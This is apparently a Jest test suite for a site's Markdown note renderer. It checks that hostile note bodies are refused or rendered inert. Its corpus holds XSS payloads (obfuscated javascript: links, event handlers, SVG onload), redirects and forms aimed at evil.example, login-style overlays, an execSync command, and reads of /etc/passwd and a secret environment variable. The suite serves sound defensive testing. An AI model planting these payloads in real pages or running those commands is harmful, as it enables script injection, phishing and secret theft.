/**
 * @jest-environment node
 */
// Notes an attacker, or an owner pasting from the web, might save: each is refused with its file, line and
// column, or published as inert text. None runs anything while it is read or rendered, and none puts a script,
// a redirect, an overlay, a `javascript:` address or an outside file into the page.
import { existsSync, mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { renderToStaticMarkup } from "react-dom/server";
import { parse } from "parse5";
import fc from "fast-check";
import { NoteBody } from "@/components/notes/note-body";
import { visit } from "unist-util-visit";
import {
  demotedMarkdown,
  LINK_PROTOCOLS,
  markdownText,
  noteSchema,
  parseMarkdown,
} from "@/lib/notes/markdown.mjs";
import { readNotes, type Note } from "@/lib/notes/read.mjs";

const SECRET = `hostile-secret-${process.pid}`;
const PWNED = join(tmpdir(), `hostile-pwned-${process.pid}`);
process.env.HOSTILE_NOTE_SECRET = SECRET;

const head = `---
title: A note
summary: What it says.
published: 2026-11-05
kind: note
---

`;
const firstBodyLine = head.split("\n").length;

/** The hostile bodies, by what they try. */
const corpus: Record<string, string> = {
  "an expression reading a secret": "The key is {process.env.HOSTILE_NOTE_SECRET}.",
  "an expression ending the build": "{globalThis.process?.exit?.(1)}",
  "an expression running a command": `{process.getBuiltinModule("child_process").execSync("touch ${PWNED}")}`,
  "an import": `import fs from "node:fs"\n\nexport const x = fs.readFileSync("/etc/passwd", "utf8")`,
  "a component": "<Alert>{JSON.stringify(process.env)}</Alert>",
  "a redirect": '<meta http-equiv="refresh" content="2;url=https://evil.example">',
  "a base address": '<base href="https://evil.example/">',
  "a form": '<form action="https://evil.example"><input name="card"></form>',
  "a frame": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  "raw HTML from a string": `<div dangerouslySetInnerHTML={{ __html: "<script>alert(1)</script>" }} />`,
  "a script shaped like the bundler's":
    '<script>(globalThis["TURBOPACK"] || (globalThis["TURBOPACK"] = [])).push(["x"]);</script>',
  "a script shaped like React's payload": '<script>self.__next_f.push([1,"x"])</script>',
  "an overlay": '<div style={{ position: "fixed", inset: 0, background: "white" }}>Log in again</div>',
  "an overlay in HTML": '<div style="position:fixed;inset:0">Log in again</div>',
  "an event attribute": '<img src="x.png" alt="x" onerror="alert(1)">',
  "HTML in a table": "| a |\n| - |\n| <b onclick=alert(1)>x</b> |",
  "a script in a footnote": "Words[^1]\n\n[^1]: <script>alert(1)</script>",
  "a javascript: link": "[a link](javascript:alert(1))",
  "an escaped colon": "[a link](javascript\\:alert(1))",
  "an entity in the scheme": "[a link](JaVa&#83;cript:alert(1))",
  "a tab in the scheme": "[a link](java&#x09;script:alert(1))",
  "a definition in a quote": "> [x]: javascript:alert(1)\n\n[x]",
  "a definition in a list item": "- [y]: javascript:alert(1)\n\n[y]",
  "an address in angle brackets": "[a link](<javascript:alert(1)>)",
  "an autolink": "<javascript:alert(1)>",
  "a vbscript: link": "[a link](VBScript:msgbox(1))",
  "a data: page": "[a link](data:text/html,<script>alert(1)</script>)",
  "a picture outside the folder": "![x](../../../etc/passwd.png)",
  "a picture at an absolute path": "![x](/etc/hosts.png)",
  "a picture from another site": "![x](https://evil.example/x.png)",
  "a picture from a data address": "![x](data:image/svg+xml,<svg onload=alert(1)>)",
  "an attribute in a title": '[a](https://example.com "t\\" onmouseover=\\"alert(1)")',
  "characters that look like code": "If a < b and {c} > d, write `<script>` or &lt;script&gt;.",
  "a comment": "<!-- a note to self -->\n\nWords.",
  "a code block": "```html\n<script>alert(1)</script>\n<meta http-equiv=refresh content=0>\n```",
  "a level-one heading": "# Another title",
};

/** Elements and attributes a note's page never has, from any text. */
const FORBIDDEN_ELEMENTS = new Set([
  ...["script", "style", "iframe", "frame", "frameset", "object", "embed", "applet", "meta", "base", "link"],
  ...["form", "template", "portal", "svg", "math", "noscript", "textarea", "select", "button", "dialog"],
]);
const URL_ATTRIBUTES = new Set([
  "href",
  "src",
  "srcset",
  "action",
  "formaction",
  "poster",
  "data",
  "xlink:href",
]);

type Parse5Node = {
  nodeName: string;
  tagName?: string;
  attrs?: { name: string; value: string }[];
  childNodes?: Parse5Node[];
};

/** Every way `html` (a note's rendered body) could run, style or leave the page; empty when inert. */
function activeParts(html: string): string[] {
  const found: string[] = [];
  const walk = (node: Parse5Node) => {
    if (node.tagName && FORBIDDEN_ELEMENTS.has(node.tagName)) found.push(`<${node.tagName}>`);
    for (const { name, value } of node.attrs ?? []) {
      if (/^on/i.test(name) || ["style", "srcdoc", "http-equiv"].includes(name)) found.push(`${name}=`);
      if (!URL_ATTRIBUTES.has(name)) continue;
      for (const address of name === "srcset"
        ? value.split(",").map((part) => part.trim().split(/\s+/)[0] ?? "")
        : [value]) {
        const scheme = /^([a-z][a-z\d+.-]*):/i
          .exec(address.replace(/[\t\n\r]/g, "").trim())?.[1]
          ?.toLowerCase();
        if (scheme && !(LINK_PROTOCOLS as readonly string[]).includes(scheme))
          found.push(`${name}=${address}`);
        if (name !== "href" && (address.includes("..") || /^\/(?!pictures\/|notes\/)/.test(address)))
          found.push(`${name}=${address}`);
      }
    }
    for (const child of node.childNodes ?? []) walk(child);
  };
  walk(parse(html) as unknown as Parse5Node);
  return found;
}

/** A notes folder holding one note with `body`, read as the build reads it. */
function readBody(body: string, extra?: (folder: string) => void) {
  const dir = mkdtempSync(join(tmpdir(), "hostile-"));
  mkdirSync(join(dir, "n"));
  writeFileSync(join(dir, "n/index.md"), head + body + "\n");
  extra?.(join(dir, "n"));
  try {
    return { dir, notes: readNotes(dir) as Note[], message: "" };
  } catch (error) {
    return { dir, notes: [] as Note[], message: (error as Error).message };
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
}

const render = (note: Note) => renderToStaticMarkup(<NoteBody note={note} />);

describe("a hostile note", () => {
  afterAll(() => rmSync(PWNED, { force: true }));

  it.each(Object.entries(corpus))("(%s) is refused with its place, or published inert", (_, body) => {
    const { dir, notes, message } = readBody(body);
    if (message) {
      const problems = message.split("\n- ").slice(1);
      expect(problems.length).toBeGreaterThan(0);
      for (const problem of problems) expect(problem).toMatch(new RegExp(`^${dir}/n/index\\.md:\\d+:\\d+: `));
      const lines = problems.map((problem) => Number(problem.split(":")[1]));
      expect(Math.min(...lines)).toBeGreaterThanOrEqual(firstBodyLine);
      return;
    }
    const html = render(notes[0]!);
    expect(activeParts(html)).toEqual([]);
    expect(html).not.toContain(SECRET);
    expect(existsSync(PWNED)).toBe(false);
  });

  it("runs nothing and leaves a secret out of the page: expressions are text", () => {
    for (const name of ["an expression reading a secret", "an expression running a command", "a component"]) {
      const { notes } = readBody(corpus[name]!);
      const html = notes[0] ? render(notes[0]) : "";
      expect(html).not.toContain(SECRET);
    }
    const { notes } = readBody(corpus["an expression reading a secret"]!);
    expect(render(notes[0]!)).toContain("{process.env.HOSTILE_NOTE_SECRET}");
    expect(existsSync(PWNED)).toBe(false);
  });

  it("refuses every way of writing a javascript: or data: address, and every HTML tag, naming what it says", () => {
    const refused = Object.entries(corpus).filter(([name]) =>
      /javascript|vbscript|data:|escaped|entity|tab|definition|angle|autolink|redirect|base|form|frame|script|overlay|event|HTML|component|picture|heading/.test(
        name,
      ),
    );
    for (const [name, body] of refused)
      expect([name, readBody(body).message]).toEqual([name, expect.stringMatching(/:\d+:\d+: /)]);
    expect(readBody(corpus["a redirect"]!).message).toContain('"<meta http-equiv=\\"refresh\\"');
    expect(readBody(corpus["an escaped colon"]!).message).toContain(
      'the link "javascript:alert(1)" is not a page',
    );
  });

  it("publishes prose with < and { as the characters, and a code block as code", () => {
    const { notes } = readBody(`${corpus["characters that look like code"]}\n\n${corpus["a code block"]}`);
    const html = render(notes[0]!);
    expect(html).toContain("If a &lt; b and {c} &gt; d");
    expect(html.replace(/<\/?span[^>]*>/g, "")).toContain("<code>&lt;script&gt;alert(1)&lt;/script&gt;\n");
    expect(activeParts(html)).toEqual([]);
  });

  it("refuses a picture that is a link to a file outside its folder", () => {
    const outside = mkdtempSync(join(tmpdir(), "outside-"));
    writeFileSync(join(outside, "secret.png"), "not a picture");
    const { message } = readBody("![A photo](photo.png)", (folder) =>
      symlinkSync(join(outside, "secret.png"), join(folder, "photo.png")),
    );
    rmSync(outside, { recursive: true, force: true });
    expect(message).toMatch(/index\.md:\d+:1: the picture "photo\.png" is a link or not a regular file/);
  });

  it("refuses a note or a folder that is a link", () => {
    const dir = mkdtempSync(join(tmpdir(), "hostile-links-"));
    const outside = mkdtempSync(join(tmpdir(), "outside-"));
    writeFileSync(join(outside, "index.md"), head + "Words.\n");
    symlinkSync(join(outside, "index.md"), join(dir, "linked.md"));
    symlinkSync(outside, join(dir, "folder"));
    expect(() => readNotes(dir)).toThrow(/linked\.md: is a link or not a regular file/);
    expect(() => readNotes(dir)).toThrow(/folder: is a link or not a regular file/);
    rmSync(dir, { recursive: true, force: true });
    rmSync(outside, { recursive: true, force: true });
  });
});

describe("any mix of hostile and ordinary Markdown", () => {
  const pieces = fc.constantFrom(
    ...Object.values(corpus),
    "Words and **bold**.",
    "- a\n- b",
    "## A section",
    "`x`",
  );
  it("is refused with places or rendered inert, never running or leaking anything", () => {
    fc.assert(
      fc.property(
        fc.array(fc.oneof(pieces, fc.string({ unit: "grapheme", maxLength: 40 })), { maxLength: 6 }),
        (parts) => {
          const { notes, message } = readBody(parts.join("\n\n"));
          if (message) {
            for (const problem of message.split("\n- ").slice(1))
              expect(problem).toMatch(/index\.md:\d+:\d+: /);
            return;
          }
          const html = render(notes[0]!);
          expect(activeParts(html)).toEqual([]);
          expect(html).not.toContain(SECRET);
        },
      ),
      { numRuns: 150 },
    );
    expect(existsSync(PWNED)).toBe(false);
  });
});

describe("the note schema", () => {
  it("allows no element that runs, styles or embeds, and no style or event attribute", () => {
    const tags = noteSchema.tagNames ?? [];
    for (const tag of FORBIDDEN_ELEMENTS) expect(tags).not.toContain(tag);
    const attributes = Object.values(noteSchema.attributes ?? {})
      .flat()
      .map((entry) => (Array.isArray(entry) ? entry[0] : entry));
    expect(attributes.filter((name) => /^on|^style$|srcdoc/i.test(String(name)))).toEqual([]);
  });
});

describe("a note's words in a Markdown file (llms.txt, llms-full.txt)", () => {
  it("keep a title one line of words: no link, heading or list of its own", () => {
    fc.assert(
      fc.property(fc.string({ unit: "grapheme", maxLength: 60 }), (title) => {
        const line = `- [${markdownText(title)}](https://example.com/notes/n): ${markdownText(title)}`;
        const tree = parseMarkdown(line);
        const links: string[] = [];
        let headings = 0;
        visit(tree, (node) => {
          if (node.type === "link") links.push(node.url);
          if (node.type === "heading") headings++;
        });
        expect([links, headings, tree.children.length]).toEqual([["https://example.com/notes/n"], 0, 1]);
      }),
      { numRuns: 300 },
    );
  });

  it("put the body a level down from the tree: code keeps its # lines, pictures become their words", () => {
    const body = "Words.\n\n## A part\n\n![A chart](chart.png)\n\n```sh\n## still code\n```\n";
    const text = demotedMarkdown(body);
    expect(text).toContain("### A part");
    expect(text).toContain("```sh\n## still code\n```");
    expect(text).toMatch(/\\?\[Image: A chart\]/);
    expect(text).not.toContain("chart.png");
  });
});
